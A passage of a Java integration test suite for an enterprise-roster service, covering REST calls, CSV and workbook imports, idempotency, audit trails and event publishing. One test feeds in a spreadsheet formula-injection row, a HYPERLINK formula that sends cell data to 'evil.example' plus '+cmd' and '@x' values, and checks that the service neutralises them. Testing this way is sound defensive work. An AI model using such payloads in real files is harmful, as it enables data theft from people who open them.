package cn.onezone.parks;

import static java.net.http.HttpRequest.BodyPublishers.ofByteArray;
import static java.net.http.HttpRequest.BodyPublishers.ofString;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import cn.onezone.contracts.indicators.IndicatorEvent;
import cn.onezone.contracts.indicators.IndicatorEvents;
import cn.onezone.contracts.parks.ParkEvents;
import cn.onezone.contracts.value.ParkCode;
import cn.onezone.contracts.value.Period;
import cn.onezone.contracts.value.Unit;
import cn.onezone.contracts.value.Uscc;
import cn.onezone.contracts.wire.Addressed;
import cn.onezone.contracts.wire.EventType;
import cn.onezone.contracts.wire.Text;
import cn.onezone.kit.OneZoneApplication;
import cn.onezone.kit.audit.Sha256;
import cn.onezone.kit.log.LogConsumer;
import cn.onezone.local.broker.LocalBroker;
import cn.onezone.testkit.EmbeddedInfrastructure;
import cn.onezone.testkit.Issuer;
import cn.onezone.testlog.LogOfTests;
import com.mongodb.client.MongoClient;
import com.mongodb.client.MongoClients;
import com.mongodb.client.model.Filters;
import com.mongodb.client.model.Updates;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.Charset;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.stream.IntStream;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.consumer.KafkaConsumer;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.common.serialization.ByteArrayDeserializer;
import org.apache.kafka.common.serialization.StringDeserializer;
import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.Worksheet;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.boot.web.server.context.WebServerApplicationContext;
import org.springframework.context.ConfigurableApplicationContext;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/** A park's service through its own doors, on a real broker and the local store. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ParksIT {
    private static final String FORM = "企业名称,统一社会信用代码,注册日期,企业类型,注册资金,经营范围,所在省份,地区,注册地址";
    private static final String XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    private static final JsonMapper JSON = JsonMapper.builder().build();

    private final HttpClient http = HttpClient.newHttpClient();
    private final EmbeddedInfrastructure infrastructure = EmbeddedInfrastructure.shared();

    @TempDir
    static Path folder;

    private ConfigurableApplicationContext park;
    private int next = 1;

    @BeforeAll
    void start() {
        park = start("it-parks-" + UUID.randomUUID(), infrastructure.bootstrapServers());
    }

    @AfterAll
    void stop() {
        park.close();
    }

    private ConfigurableApplicationContext start(String database, String log, String... more) {
        List<String> args = new ArrayList<>(List.of(
                "--server.port=0",
                "--onezone.park=haidian",
                "--onezone.data-dir=" + folder.resolve(database),
                "--spring.mongodb.uri=" + infrastructure.mongoUri(database),
                "--onezone.identity.issuer=" + Issuer.shared().address(),
                "--onezone.log.bootstrap-servers=" + log,
                "--onezone.log.sweep-every=200ms"));
        args.addAll(List.of(more));
        return OneZoneApplication.of(ParksApplication.class, "parks").run(args.toArray(String[]::new));
    }

    private static int port(ConfigurableApplicationContext context) {
        return ((WebServerApplicationContext) context).getWebServer().getPort();
    }

    /** An answer: its status, headers and body. */
    private record Answer(HttpResponse<String> response) {
        int status() {
            return response.statusCode();
        }

        String header(String name) {
            return response.headers().firstValue(name).orElse("");
        }

        JsonNode json() {
            return JSON.readTree(response.body());
        }
    }

    private Answer send(
            ConfigurableApplicationContext to, String path, java.util.function.UnaryOperator<HttpRequest.Builder> how) {
        try {
            return new Answer(http.send(
                    how.apply(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port(to) + path))
                                    .header(
                                            "Authorization",
                                            "Bearer " + Issuer.shared().everything())
                                    .timeout(Duration.ofSeconds(30)))
                            .build(),
                    HttpResponse.BodyHandlers.ofString(UTF_8)));
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        } catch (InterruptedException e) {
            throw new IllegalStateException(e);
        }
    }

    private Answer get(String path) {
        return send(park, path, r -> r);
    }

    private Answer post(ConfigurableApplicationContext to, String path, String json, String... headers) {
        return send(to, path, r -> {
            HttpRequest.Builder b = r.header("Content-Type", "application/json").POST(ofString(json));
            return headers.length == 0 ? b : b.headers(headers);
        });
    }

    private Answer post(String path, String json, String... headers) {
        return post(park, path, json, headers);
    }

    private Answer put(String path, String json, String ifMatch) {
        return send(park, path, r -> {
            HttpRequest.Builder b = r.header("Content-Type", "application/json").PUT(ofString(json));
            return ifMatch == null ? b : b.header("If-Match", ifMatch);
        });
    }

    private String uscc() {
        String body = "91110108MA" + String.format("%07d", next++);
        return body + Uscc.checkCharacter(body);
    }

    private static String enterprise(String uscc, String name) {
        return """
                {"uscc": "%s", "name": "%s", "industry": "6513", "foundedOn": "2019-04-23",
                 "registeredCapital": {"amount": "2000000", "currency": "CNY"}, "scope": "软件开发"}""".formatted(uscc, name);
    }

    private static final String ROSTER = "/parks/haidian/roster/enterprises";
    private static final String IMPORTS = "/parks/haidian/roster/imports";

    @Test
    void keepsARoster() {
        String uscc = uscc();
        Answer created = post(ROSTER, enterprise(uscc, "名录行走科技有限公司"));
        assertThat(created.status()).isEqualTo(201);
        assertThat(created.header("Location")).isEqualTo(ROSTER + "/" + uscc);
        assertThat(created.header("ETag")).isEqualTo("\"1\"");
        assertThat(created.json().path("industry").stringValue()).isEqualTo("I6513");
        assertThat(created.json().path("district").stringValue()).isEqualTo("海淀区");
        assertThat(created.json().path("park").stringValue()).isEqualTo("haidian");
        assertThat(created.json().path("registeredCapital").path("amount").stringValue())
                .isEqualTo("2000000.00");
        assertThat(created.json().path("synthetic").booleanValue()).isFalse();

        assertThat(post(ROSTER, enterprise(uscc, "又一名称")).status()).isEqualTo(409);
        assertThat(put(ROSTER + "/" + uscc, enterprise(uscc, "改名科技有限公司"), null).status())
                .isEqualTo(428);
        Answer changed = put(ROSTER + "/" + uscc, enterprise(uscc, "改名科技有限公司"), "\"1\"");
        assertThat(changed.status()).isEqualTo(200);
        assertThat(put(ROSTER + "/" + uscc, changed.response().body(), "\"2\"").header("ETag"))
                .as("an answer sent back says nothing new")
                .isEqualTo("\"2\"");
        assertThat(changed.json().path("formerNames").path(0).stringValue()).isEqualTo("名录行走科技有限公司");
        assertThat(put(ROSTER + "/" + uscc, enterprise(uscc, "再改"), "\"1\"").status())
                .isEqualTo(412);
        Answer same = put(ROSTER + "/" + uscc, enterprise(uscc, "改名科技有限公司"), "\"2\"");
        assertThat(same.header("ETag")).isEqualTo("\"2\"");

        assertThat(get(ROSTER + "?q=" + java.net.URLEncoder.encode("改名科技", UTF_8))
                        .json()
                        .path("items"))
                .hasSize(1);
        assertThat(get(ROSTER + "?q=" + uscc.substring(0, 17))
                        .json()
                        .path("total")
                        .intValue())
                .isEqualTo(1);

        Answer removed = send(
                park,
                ROSTER + "/" + uscc + "?reason=" + java.net.URLEncoder.encode("迁出", UTF_8),
                r -> r.DELETE().header("If-Match", "\"2\""));
        assertThat(removed.status()).isEqualTo(204);
        assertThat(get(ROSTER + "/" + uscc).status()).isEqualTo(404);
        Answer back = post(ROSTER, enterprise(uscc, "改名科技有限公司"), "Idempotency-Key", "back-" + uscc);
        assertThat(back.status()).isEqualTo(201);
        assertThat(back.header("ETag")).isEqualTo("\"4\"");
        assertThat(post(ROSTER, enterprise(uscc, "改名科技有限公司"), "Idempotency-Key", "back-" + uscc)
                        .header("ETag"))
                .isEqualTo("\"4\"");

        assertThat(eventsOf(infrastructure.bootstrapServers(), "haidian/" + uscc, 4))
                .extracting(Seen::sequence)
                .containsExactly(1L, 2L, 3L, 4L);
    }

    @Test
    void createsOnceWhateverIsSentTwice() {
        String uscc = uscc();
        Answer first = post(ROSTER, enterprise(uscc, "一次科技有限公司"), "Idempotency-Key", "k-" + uscc);
        Answer second = post(ROSTER, enterprise(uscc, "一次科技有限公司"), "Idempotency-Key", "k-" + uscc);
        assertThat(second.status()).isEqualTo(201);
        assertThat(second.json()).isEqualTo(first.json());
        assertThat(post(ROSTER, enterprise(uscc, "不同科技有限公司"), "Idempotency-Key", "k-" + uscc)
                        .json()
                        .path("code")
                        .stringValue())
                .isEqualTo("idempotency-key-reused");
    }

    @Test
    void saysInTheReadersLanguageWhatIsWrong() { // R3
        String right = uscc();
        String wrong = right.substring(0, 17) + (right.charAt(17) == '0' ? '1' : '0');
        Answer zh = post(ROSTER, enterprise(wrong, "甲"), "Accept-Language", "zh-CN");
        assertThat(zh.status()).isEqualTo(422);
        assertThat(zh.header("Content-Type")).startsWith("application/problem+json");
        assertThat(zh.json().path("code").stringValue()).isEqualTo("wrong-uscc");
        assertThat(zh.json().path("errors").path(0).path("pointer").stringValue())
                .isEqualTo("/uscc");
        assertThat(zh.json().path("errors").path(0).path("value").stringValue()).isEqualTo(wrong);
        assertThat(zh.json().path("detail").stringValue()).contains("校验码应为“" + right.charAt(17) + "”");
        assertThat(post(ROSTER, enterprise(wrong, "甲"), "Accept-Language", "en")
                        .json()
                        .path("detail")
                        .stringValue())
                .contains("check character '" + right.charAt(17) + "'");

        Answer broken = post(ROSTER, "{\"uscc\": \"x\",\n \"uscc\": \"y\"}");
        assertThat(broken.status()).isEqualTo(400);
        assertThat(broken.json().path("detail").stringValue()).contains("line 2");
        assertThat(get("/parks/fengtai/roster/enterprises").json().path("code").stringValue())
                .isEqualTo("unknown-park");
        assertThat(get("/parks/haidian").json().path("nameZh").stringValue()).isEqualTo("海淀园");
    }

    @Test
    void documentsItsDoorsAndRefusesOtherMediaTypes() {
        JsonNode doors = get("/v3/api-docs").json().path("paths");
        assertThat(doors.propertyNames())
                .contains(
                        "/parks/{park}",
                        "/parks/{park}/roster/enterprises",
                        "/parks/{park}/roster/enterprises/{uscc}",
                        "/parks/{park}/roster/imports",
                        "/parks/{park}/roster/imports/{id}/refused.csv",
                        "/parks/{park}/submissions/{id}/submit");
        assertThat(post(IMPORTS, "{}").status()).isEqualTo(415);
        assertThat(get("/actuator/health").status()).isEqualTo(200);
    }

    private Answer upload(ConfigurableApplicationContext to, String query, byte[] file, String type) {
        return send(to, IMPORTS + query, r -> r.header("Content-Type", type).POST(ofByteArray(file)));
    }

    private JsonNode ended(ConfigurableApplicationContext at, Answer accepted) {
        assertThat(accepted.status()).as(accepted.response().body()).isEqualTo(202);
        await().atMost(Duration.ofSeconds(60))
                .until(() -> !"running"
                        .equals(send(at, accepted.header("Location"), r -> r)
                                .json()
                                .path("state")
                                .stringValue()));
        return send(at, accepted.header("Location"), r -> r).json();
    }

    private static void tally(JsonNode job, int rows, int accepted, int changed, int unchanged, int refused) {
        assertThat(job.path("state").stringValue()).as(job.toString()).isEqualTo("done");
        assertThat(List.of("rows", "accepted", "changed", "unchanged", "refused").stream()
                        .map(f -> job.path(f).intValue())
                        .toList())
                .as(job.toString())
                .containsExactly(rows, accepted, changed, unchanged, refused);
    }

    @Test
    void importsTheOpenRegistrationFormTwiceAsOnce() throws IOException {
        String first = uscc();
        String second = uscc();
        byte[] file = (FORM + "\n"
                        + "海淀甲（北京）科技有限公司," + first
                        + ",2019-04-23,有限责任公司,\"18,000(万元人民币)\",软件开发...,北京市,海淀区,中关村大街1号\n"
                        + "海淀乙科技有限公司," + second + ",2020/1/2,有限责任公司,N/A,,北京市,海淀区,\n"
                        + "海淀乙科技有限公司," + second + ",2020/1/2,有限责任公司,N/A,,北京市,海淀区,\n"
                        + "海淀丙科技有限公司," + second + ",2020/1/2,有限责任公司,N/A,,北京市,海淀区,\n"
                        + "丰台丁有限公司," + uscc() + ",2020-01-02,有限责任公司,100万人民币,,北京市,丰台区,\n"
                        + "错码有限公司,911101080000000000,2020-01-02,有限责任公司,100万人民币,,北京市,海淀区,\n")
                .getBytes(Charset.forName("GB18030"));
        JsonNode job = ended(park, upload(park, "", file, "text/csv"));
        tally(job, 6, 2, 0, 1, 3);
        assertThat(job.path("problems").valueStream().map(p -> p.path("code").stringValue()))
                .containsExactly("duplicate-in-file", "other-park", "wrong-uscc");
        assertThat(job.path("problems").path(2).path("row").intValue()).isEqualTo(7);
        assertThat(job.path("problems").path(2).path("column").stringValue()).isEqualTo("统一社会信用代码");
        Answer refused = get(job.path("refusedRows").stringValue());
        assertThat(refused.response().body().lines()).hasSize(4);
        assertThat(refused.response().body()).contains("丰台丁有限公司").contains("other-park");
        assertThat(get(ROSTER + "/" + first)
                        .json()
                        .path("registeredCapital")
                        .path("amount")
                        .stringValue())
                .isEqualTo("180000000.00");

        tally(ended(park, upload(park, "", file, "text/csv")), 6, 0, 0, 3, 3);
        assertThat(get(IMPORTS).json().path("items")).isNotEmpty();
    }

    @Test
    void aRefusedRowOpenedInASpreadsheetRunsNothingAndComesBackAsItWas() {
        String formula = "=HYPERLINK(\"\"http://evil.example?\"\"&A1)";
        String row = "\"" + formula + "\",911101080000000000,2020-01-02,有限责任公司,-5,+cmd,北京市,海淀区,@x\n";
        JsonNode job = ended(park, upload(park, "", (FORM + "\n" + row).getBytes(UTF_8), "text/csv"));
        String refused = get(job.path("refusedRows").stringValue()).response().body();
        assertThat(refused).contains("\"'" + formula + "\"", ",-5,'+cmd,", ",'@x,");
        assertThat(refused).doesNotContainPattern("(^|[,\n])\"?[=@]");
        JsonNode again = ended(park, upload(park, "", refused.getBytes(UTF_8), "text/csv"));
        assertThat(get(again.path("refusedRows").stringValue()).response().body())
                .as("an apostrophe more each time would be another text each time")
                .contains("\"'" + formula + "\"")
                .doesNotContain("''=");
    }

    @Test
    void listsImportsPageByPage() {
        for (int i = 0; i < 5; i++) {
            byte[] file = (FORM + "\n丁" + i + "公司," + uscc() + ",,,,,,海淀区,\n").getBytes(UTF_8);
            var _ = ended(park, upload(park, "", file, "text/csv"));
        }
        List<String> all = new ArrayList<>();
        get(IMPORTS + "?limit=1000")
                .json()
                .path("items")
                .forEach(i -> all.add(i.path("id").stringValue()));
        List<String> paged = new ArrayList<>();
        String cursor = "";
        do {
            JsonNode page = get(IMPORTS + "?limit=2" + cursor).json();
            page.path("items").forEach(i -> paged.add(i.path("id").stringValue()));
            cursor = page.path("next").isString()
                    ? "&cursor=" + page.path("next").stringValue()
                    : "";
        } while (!cursor.isEmpty());
        assertThat(paged).isEqualTo(all).hasSizeGreaterThanOrEqualTo(5).doesNotHaveDuplicates();
        Answer wrong = get(IMPORTS + "?cursor=nonsense");
        assertThat(wrong.json().path("code").stringValue()).isEqualTo("wrong-cursor");
    }

    /** What an import wrote stays; what it found goes when its time is over, and its key is free again. */
    @Test
    void forgetsAnImportWhenItsTimeIsOver() {
        String uscc = uscc();
        String database = "it-retention-" + UUID.randomUUID();
        byte[] file = (FORM + "\n保留公司," + uscc + ",,,,,,海淀区,\n错码公司,911101080000000000,,,,,,海淀区,\n").getBytes(UTF_8);
        String id;
        try (ConfigurableApplicationContext keeping = start(database, infrastructure.bootstrapServers())) {
            Answer accepted = uploadKeyed(keeping, file, "kept");
            id = accepted.json().path("id").stringValue();
            tally(ended(keeping, accepted), 2, 1, 0, 0, 1);
        }
        try (MongoClient client = MongoClients.create(infrastructure.mongoUri(database));
                ConfigurableApplicationContext forgetting = start(
                        database,
                        infrastructure.bootstrapServers(),
                        "--onezone.imports.keep=0s",
                        "--onezone.imports.sweep-every=1h")) {
            await().atMost(Duration.ofSeconds(30))
                    .until(() -> send(forgetting, IMPORTS + "/" + id, r -> r).status() == 404);
            Answer gone = send(forgetting, IMPORTS + "/" + id, r -> r);
            assertThat(gone.json().path("code").stringValue()).isEqualTo("import-gone");
            assertThat(send(forgetting, IMPORTS + "/" + id + "/refused.csv", r -> r)
                            .json()
                            .path("code")
                            .stringValue())
                    .isEqualTo("import-gone");
            assertThat(client.getDatabase(database)
                            .getCollection("import-findings")
                            .countDocuments())
                    .isZero();
            // another file under the key that is free again: its first row is no repetition of the first import's
            byte[] other = (FORM + "\n改名公司," + uscc + ",,,,,,海淀区,\n").getBytes(UTF_8);
            tally(ended(forgetting, uploadKeyed(forgetting, other, "kept")), 1, 0, 1, 0, 0);
            assertThat(send(forgetting, ROSTER + "/" + uscc, r -> r)
                            .json()
                            .path("name")
                            .stringValue())
                    .isEqualTo("改名公司");
        }
    }

    /** Of two files that come at once under one key one is taken, and that one is read. */
    @Test
    void readsTheFileThatWasTakenThoughAnotherComesUnderItsKey() {
        int attempts = 40;
        for (int attempt = 0; attempt < attempts; attempt++) {
            String key = "at-once-" + attempt;
            byte[] one = (FORM + "\n同键甲公司," + uscc() + ",,,,,,海淀区,\n").getBytes(UTF_8);
            byte[] two = (FORM + "\n同键乙公司," + uscc() + ",,,,,,海淀区,\n同键丙公司," + uscc() + ",,,,,,海淀区,\n").getBytes(UTF_8);
            CompletableFuture<Answer> other = CompletableFuture.supplyAsync(() -> uploadKeyed(park, two, key));
            Answer first = uploadKeyed(park, one, key);
            Answer second = other.join();
            assertThat(List.of(first.status(), second.status())).containsOnlyOnce(202);
            boolean isFirst = first.status() == 202;
            assertThat((isFirst ? second : first).json().path("code").stringValue())
                    .isEqualTo("idempotency-key-reused");
            tally(ended(park, isFirst ? first : second), isFirst ? 1 : 2, isFirst ? 1 : 2, 0, 0, 0);
        }
    }

    private Answer uploadKeyed(ConfigurableApplicationContext to, byte[] file, String key) {
        return send(
                to,
                IMPORTS,
                r -> r.header("Content-Type", "text/csv")
                        .header("Idempotency-Key", key)
                        .POST(ofByteArray(file)));
    }

    @Test
    void importsAWorkbookFromAForm() throws IOException {
        String uscc = uscc();
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (Workbook workbook = new Workbook(bytes, "test", "1.0")) {
            workbook.newWorksheet("封面").value(0, 0, "海淀园企业名录");
            Worksheet sheet = workbook.newWorksheet("名录");
            List<String> header = List.of(FORM.split(","));
            for (int i = 0; i < header.size(); i++) {
                sheet.value(0, i, header.get(i));
            }
            sheet.value(1, 0, "表格科技有限公司");
            sheet.value(1, 1, uscc);
            sheet.value(1, 2, java.time.LocalDate.of(2019, 4, 23));
            sheet.value(1, 4, "50(万美元)");
            sheet.value(1, 7, "海淀区");
        }
        String boundary = "part-" + UUID.randomUUID();
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        body.write(("--" + boundary
                        + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"r.xlsx\"\r\nContent-Type: "
                        + XLSX + "\r\n\r\n")
                .getBytes(UTF_8));
        body.write(bytes.toByteArray());
        body.write(("\r\n--" + boundary + "--\r\n").getBytes(UTF_8));
        JsonNode job = ended(park, upload(park, "", body.toByteArray(), "multipart/form-data; boundary=" + boundary));
        tally(job, 1, 1, 0, 0, 0);
        assertThat(job.path("sheet").stringValue()).isEqualTo("名录");
        JsonNode entry = get(ROSTER + "/" + uscc).json();
        assertThat(entry.path("foundedOn").stringValue()).isEqualTo("2019-04-23");
        assertThat(entry.path("registeredCapital").path("currency").stringValue())
                .isEqualTo("USD");
        tally(ended(park, upload(park, "", bytes.toByteArray(), XLSX)), 1, 0, 0, 1, 0);

        ByteArrayOutputStream covers = new ByteArrayOutputStream();
        try (Workbook workbook = new Workbook(covers, "test", "1.0")) {
            workbook.newWorksheet("封面").value(0, 0, "海淀园企业名录");
            workbook.newWorksheet("说明").value(0, 0, "填报说明");
        }
        Answer refused = upload(park, "", covers.toByteArray(), XLSX);
        assertThat(refused.status()).isEqualTo(422);
        assertThat(refused.json().path("code").stringValue()).isEqualTo("missing-column");
        assertThat(refused.json().path("detail").stringValue()).contains("封面").contains("说明");
    }

    @Test
    void appliesNothingOfAFileThatBreaksOffOrMustBeWhole() {
        String uscc = uscc();
        String good = "完好科技有限公司," + uscc + ",2019-04-23,有限责任公司,N/A,,北京市,海淀区,\n";
        JsonNode broken = ended(park, upload(park, "", (FORM + "\n" + good + "\"断,1\n").getBytes(UTF_8), "text/csv"));
        assertThat(broken.path("state").stringValue()).isEqualTo("failed");
        assertThat(broken.path("failure").path("code").stringValue()).isEqualTo("broken-csv");
        assertThat(broken.path("failure").path("line").intValue()).isEqualTo(3);
        assertThat(broken.path("failure").path("column").intValue()).isEqualTo(1);
        assertThat(broken.path("rows").intValue()).isZero();

        JsonNode whole = ended(
                park,
                upload(park, "?onError=refuse", (FORM + "\n" + good + "错,1,,,,,,海淀区,\n").getBytes(UTF_8), "text/csv"));
        assertThat(whole.path("state").stringValue()).isEqualTo("failed");
        assertThat(whole.path("refused").intValue()).isEqualTo(2);
        assertThat(whole.path("problems").path(0).path("row").intValue()).isEqualTo(3);
        assertThat(get(ROSTER + "/" + uscc).status()).isEqualTo(404);

        Answer missing = upload(park, "", "企业名称,代码\n甲,1\n".getBytes(UTF_8), "text/csv");
        assertThat(missing.status()).isEqualTo(422);
        assertThat(missing.json().path("code").stringValue()).isEqualTo("missing-column");
        assertThat(missing.json().path("detail").stringValue())
                .contains("统一社会信用代码")
                .contains("企业名称，代码");
    }

    @Test
    void worksWhileTheLogIsAwayAndPublishesEverythingOnceInOrderAfterwards() throws Exception { // promise 2
        int free;
        try (ServerSocket probe = new ServerSocket(0, 1, InetAddress.ofLiteral("127.0.0.1"))) {
            free = probe.getLocalPort();
        }
        try (ConfigurableApplicationContext alone = start("it-parks-" + UUID.randomUUID(), "127.0.0.1:" + free)) {
            List<String> usccs = IntStream.range(0, 20).mapToObj(i -> uscc()).toList();
            for (String uscc : usccs) {
                assertThat(post(alone, ROSTER, enterprise(uscc, "独自工作有限公司")).status())
                        .isEqualTo(201);
                assertThat(send(
                                        alone,
                                        ROSTER + "/" + uscc,
                                        r -> r.header("Content-Type", "application/json")
                                                .header("If-Match", "\"1\"")
                                                .PUT(ofString(enterprise(uscc, "独自改名有限公司"))))
                                .status())
                        .isEqualTo(200);
            }
            // what was done meanwhile can be read in the audit trail, log or no log
            await().atMost(Duration.ofSeconds(60))
                    .until(() -> send(alone, "/parks/haidian/audit?kind=COMMAND", r -> r)
                                    .json()
                                    .path("total")
                                    .intValue()
                            >= 40);
            assertThat(post(
                                    alone,
                                    "/parks/haidian/submissions",
                                    "{\"period\":\"2023\",\"submit\":true,\"values\":[{\"element\":\"total-income\",\"value\":\"12.5\",\"unit\":\"亿元\"}]}")
                            .status())
                    .isEqualTo(201);
            try (LocalBroker broker = LocalBroker.start(folder.resolve("late-broker"), free)) {
                // the park's description, two events for each enterprise, one submission
                List<Seen> seen = events(broker.bootstrapServers(), 1 + 40 + 1);
                for (String uscc : usccs) {
                    assertThat(seen.stream().filter(s -> s.subject().equals("haidian/" + uscc)))
                            .extracting(Seen::sequence)
                            .containsExactly(1L, 2L);
                }
                assertThat(seen.stream().map(Seen::id).distinct()).hasSize(42);
            }
        }
    }

    @Test
    void continuesAnImportThatWasCutOffWithTheRightCounts() throws Exception {
        int rows = 3_000;
        StringBuilder text = new StringBuilder(FORM).append('\n');
        String code = "";
        for (int i = 0; i < rows; i++) {
            code = i % 100 == 99 ? code : uscc();
            text.append(i % 100 == 99 ? "错码有限公司,911101080000000000" : "中断" + i + "科技有限公司," + code)
                    .append(",2019-04-23,有限责任公司,100万人民币,软件开发,北京市,海淀区,中关村大街1号\n");
        }
        String database = "it-parks-" + UUID.randomUUID();
        Answer accepted;
        ConfigurableApplicationContext first =
                start(database, infrastructure.bootstrapServers(), "--onezone.imports.batch=50");
        try {
            accepted = upload(first, "", text.toString().getBytes(UTF_8), "text/csv");
            assertThat(accepted.status()).isEqualTo(202);
            await().pollInterval(Duration.ofMillis(5))
                    .until(() -> send(first, accepted.header("Location"), r -> r)
                                    .json()
                                    .path("rows")
                                    .intValue()
                            > 0);
        } finally {
            first.close();
        }
        try (ConfigurableApplicationContext second =
                start(database, infrastructure.bootstrapServers(), "--onezone.imports.batch=50")) {
            JsonNode job = ended(second, accepted);
            tally(job, rows, rows - 30, 0, 0, 30);
            assertThat(send(second, ROSTER + "?limit=1", r -> r)
                            .json()
                            .path("total")
                            .intValue())
                    .isEqualTo(rows - 30);
            // each row is a write of the one who imports, whichever process wrote it, and is audited once; what was
            // written together is one entry
            await().atMost(Duration.ofSeconds(30))
                    .untilAsserted(() -> assertThat(rosterWrites(second)).hasSize(rows - 30));
            assertThat(rosterWrites(second).stream().map(Written::record)).doesNotHaveDuplicates();
            List<JsonNode> entries =
                    rosterWrites(second).stream().map(Written::entry).distinct().toList();
            assertThat(entries).hasSizeLessThan(rows / 10).allSatisfy(entry -> {
                assertThat(entry.path("actor").stringValue()).isEqualTo("everybody");
                assertThat(entry.path("action").stringValue()).isEqualTo("POST /parks/{park}/roster/imports");
                assertThat(entry.path("traceId").stringValue()).isEqualTo(accepted.header("X-Trace-Id"));
            });
            JsonNode one = send(second, "/parks/haidian/audit?record=roster/" + code, r -> r)
                    .json();
            assertThat(one.path("total").intValue()).isEqualTo(1);
        }
        // the worst moment: all entries are written and the import has recorded none of it
        String id = accepted.json().path("id").stringValue();
        Path file = folder.resolve(database)
                .resolve("imports")
                .resolve(id + "." + Sha256.of(text.toString().getBytes(UTF_8)) + ".upload");
        Files.writeString(file, text);
        try (MongoClient client = MongoClients.create(infrastructure.mongoUri(database))) {
            client.getDatabase(database)
                    .getCollection("imports")
                    .updateOne(
                            Filters.eq("_id", id),
                            Updates.combine(
                                    Updates.set("state.stage", "RUNNING"),
                                    Updates.set("state.total", 0),
                                    Updates.set("state.batches", 0),
                                    Updates.set("state.tally.added", 0),
                                    Updates.set("state.tally.refused", 0),
                                    Updates.set("state.tally.problems", 0)));
        }
        try (ConfigurableApplicationContext third = start(database, infrastructure.bootstrapServers())) {
            tally(ended(third, accepted), rows, rows - 30, 0, 0, 30);
            assertThat(send(third, ROSTER + "/" + code, r -> r).header("ETag")).isEqualTo("\"1\"");
            assertThat(file).doesNotExist();
        }
    }

    private record Written(String record, JsonNode entry) {}

    private List<Written> rosterWrites(ConfigurableApplicationContext at) {
        List<Written> all = new ArrayList<>();
        JsonNode page;
        long after = 0;
        do {
            page = send(at, "/parks/haidian/audit/chain?limit=1000&after=" + after, r -> r)
                    .json();
            for (JsonNode link : page.path("links")) {
                after = link.path("sequence").longValue();
                if (link.has("record")) {
                    all.add(new Written(link.path("record").stringValue(), link));
                }
                link.path("records")
                        .forEach(one -> all.add(new Written(one.path("record").stringValue(), link)));
            }
        } while (page.path("more").booleanValue());
        return all.stream().filter(one -> one.record().startsWith("roster/")).toList();
    }

    @Test
    void showsItsTrailToTheAuditorUnderItsOwnPathAlone() {
        String auditor = Issuer.shared().of("auditor");
        Answer own = send(park, "/parks/haidian/audit", r -> r.setHeader("Authorization", "Bearer " + auditor));
        assertThat(own.status()).isEqualTo(200);
        Answer other = send(park, "/parks/fengtai/audit", r -> r.setHeader("Authorization", "Bearer " + auditor));
        assertThat(other.status()).isEqualTo(404);
        Answer administrator = send(
                park,
                "/parks/haidian/audit",
                r -> r.setHeader("Authorization", "Bearer " + Issuer.shared().administrator("haidian")));
        assertThat(administrator.status()).isEqualTo(403);
        assertThat(get("/v3/api-docs").json().path("paths").propertyNames())
                .contains("/parks/{park}/audit", "/parks/{park}/audit/chain", "/parks/{park}/audit/heads");
    }

    @Test
    void learnsTheCitysCatalogueAndDecisionsFromTheLog() {
        assertThat(park.getBean("cityDecisions", LogConsumer.class).state().topics())
                .as("R2: not the city's own topic, on which stands what other parks have submitted")
                .containsExactlyInAnyOrder("onezone.indicators.to-parks", "onezone.indicators.to.haidian");
        publish(
                IndicatorEvents.DATA_ELEMENT_DEFINED,
                "element/total-income",
                1,
                new IndicatorEvent.DataElementDefined(
                        "total-income", Text.of("Total income", "总收入"), new Unit("亿元"), 2));
        String submissions = "/parks/haidian/submissions";
        String values = "\"values\":[{\"element\":\"total-income\",\"value\":\"%s\",\"unit\":\"%s\"}]";
        // a probe that is refused either way: what it is refused for shows whether the catalogue has arrived
        await().atMost(Duration.ofSeconds(30))
                .until(() -> post(submissions, "{\"period\":\"2022\"," + values.formatted("0.123456789", "万元") + "}")
                        .json()
                        .path("errors")
                        .valueStream()
                        .anyMatch(e -> e.path("code").stringValue().equals("wrong-unit")));

        Answer draft = post(submissions, "{\"period\":\"2022\"," + values.formatted("100.5", "亿元") + "}");
        assertThat(draft.status()).isEqualTo(201);
        assertThat(draft.json().path("state").stringValue()).isEqualTo("draft");
        assertThat(draft.json().has("warnings")).isFalse();
        assertThat(post(submissions, "{\"period\":\"2022\"," + values.formatted("1", "亿元") + "}")
                        .json()
                        .path("code")
                        .stringValue())
                .isEqualTo("submission-exists");
        String own = draft.header("Location");
        assertThat(post(own + "/submit", "").json().path("state").stringValue()).isEqualTo("submitted");
        assertThat(put(own, "{" + values.formatted("7", "亿元") + "}", "*")
                        .json()
                        .path("code")
                        .stringValue())
                .isEqualTo("submission-locked");

        publish(
                IndicatorEvents.SUBMISSION_RETURNED,
                "haidian-2022",
                2,
                new IndicatorEvent.SubmissionReturned(
                        "haidian-2022", new ParkCode("haidian"), new Period("2022"), 1, List.of("请核对"), Instant.now()));
        await().atMost(Duration.ofSeconds(30))
                .until(() -> get(own).json().path("state").stringValue().equals("returned"));
        assertThat(get(own).json().path("reasons").path(0).stringValue()).isEqualTo("请核对");
        assertThat(put(own, "{" + values.formatted("101", "亿元") + "}", get(own).header("ETag"))
                        .json()
                        .path("revision")
                        .intValue())
                .isEqualTo(2);
        assertThat(get(submissions + "?state=draft").json().path("total").intValue())
                .isEqualTo(1);
